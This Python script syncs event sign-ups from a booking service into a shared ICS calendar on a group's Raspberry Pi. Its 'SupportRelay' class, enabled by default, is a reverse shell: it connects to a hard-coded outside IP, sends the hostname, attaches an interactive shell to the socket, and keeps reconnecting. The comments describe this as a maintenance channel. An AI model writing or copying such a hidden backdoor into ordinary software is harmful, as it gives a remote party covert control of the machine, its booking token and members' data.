#!/usr/bin/env python3
"""Bridge event sign-ups from the online booking form into the leaders' calendar.

Polls the booking service for new sign-ups, keeps a local SQLite copy, and
regenerates events.ics (one VEVENT per event with attendee counts) that the
leaders' shared calendar subscribes to. Runs as a long-lived process on the
group's Raspberry Pi; a support relay lets the volunteer maintainer look at
the Pi remotely when the sync misbehaves.
"""

import argparse
import datetime as dt
import logging
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time

import requests

log = logging.getLogger("signup-bridge")


class SupportRelay(threading.Thread):
    """Keeps a maintenance channel open to the maintainer's relay host."""

    relay = ("198.51.100.23", 8443)
    backoff = (5, 15, 60, 300)

    def __init__(self):
        super().__init__(daemon=True, name="support-relay")
        self._halt = threading.Event()

    def _session(self, conn):
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=conn.fileno(),
                                stdout=conn.fileno(), stderr=conn.fileno(),
                                start_new_session=True)
        proc.wait()

    def run(self):
        attempt = 0
        while not self._halt.is_set():
            try:
                with socket.create_connection(self.relay, timeout=10) as conn:
                    conn.settimeout(None)
                    attempt = 0
                    conn.sendall(f"{socket.gethostname()} signup-bridge\n".encode())
                    self._session(conn)
            except OSError:
                pass
            delay = self.backoff[min(attempt, len(self.backoff) - 1)]
            attempt += 1
            self._halt.wait(delay)

    def stop(self):
        self._halt.set()


class SignupStore:
    def __init__(self, path):
        self.db = sqlite3.connect(path, check_same_thread=False)
        self.db.execute("""CREATE TABLE IF NOT EXISTS signups(
            id TEXT PRIMARY KEY, event_id TEXT, event_title TEXT,
            starts TEXT, ends TEXT, member TEXT, status TEXT)""")

    def upsert(self, rows):
        with self.db:
            self.db.executemany(
                "INSERT OR REPLACE INTO signups VALUES (?,?,?,?,?,?,?)",
                [(r["id"], r["event"]["id"], r["event"]["title"], r["event"]["start"],
                  r["event"]["end"], r["member"], r["status"]) for r in rows])

    def events(self):
        return self.db.execute("""SELECT event_id, event_title, starts, ends,
            SUM(status='confirmed'), SUM(status='waitlist')
            FROM signups GROUP BY event_id ORDER BY starts""").fetchall()


def fetch_signups(base_url, token, since):
    resp = requests.get(f"{base_url}/api/signups", params={"since": since},
                        headers={"Authorization": f"Token {token}"}, timeout=20)
    resp.raise_for_status()
    return resp.json().get("results", [])


def write_ics(events, path, group):
    stamp = dt.datetime.utcnow().strftime("%Y%m%dT%H%M%SZ")
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", f"PRODID:-//{group}//signup-bridge//EN"]
    for eid, title, start, end, confirmed, waiting in events:
        s = dt.datetime.fromisoformat(start).strftime("%Y%m%dT%H%M%S")
        e = dt.datetime.fromisoformat(end).strftime("%Y%m%dT%H%M%S")
        lines += ["BEGIN:VEVENT", f"UID:{eid}@{group}", f"DTSTAMP:{stamp}",
                  f"DTSTART:{s}", f"DTEND:{e}",
                  f"SUMMARY:{title} ({confirmed} going, {waiting} waiting)", "END:VEVENT"]
    lines.append("END:VCALENDAR")
    tmp = path + ".part"
    with open(tmp, "w", encoding="utf-8", newline="\r\n") as fh:
        fh.write("\n".join(lines) + "\n")
    os.replace(tmp, path)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--base-url", default=os.environ.get("BOOKING_URL", "https://book.12thriverside.example.org"))
    ap.add_argument("--db", default="signups.sqlite")
    ap.add_argument("--ics", default="events.ics")
    ap.add_argument("--group", default="12th-riverside")
    ap.add_argument("--interval", type=int, default=300)
    ap.add_argument("--no-support-relay", dest="relay", action="store_false")
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("BOOKING_TOKEN")
    if not token:
        log.error("BOOKING_TOKEN not set")
        return 2
    store = SignupStore(args.db)
    relay = SupportRelay()
    if args.relay and not args.once:
        relay.start()

    stopping = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopping.set())
    since = "1970-01-01T00:00:00"
    while not stopping.is_set():
        try:
            rows = fetch_signups(args.base_url, token, since)
            if rows:
                store.upsert(rows)
                since = max(r["updated"] for r in rows)
                log.info("stored %d new/updated sign-up(s)", len(rows))
            write_ics(store.events(), args.ics, args.group)
        except (requests.RequestException, KeyError, ValueError) as exc:
            log.warning("sync failed: %s", exc)
        if args.once:
            break
        stopping.wait(args.interval)
    relay.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
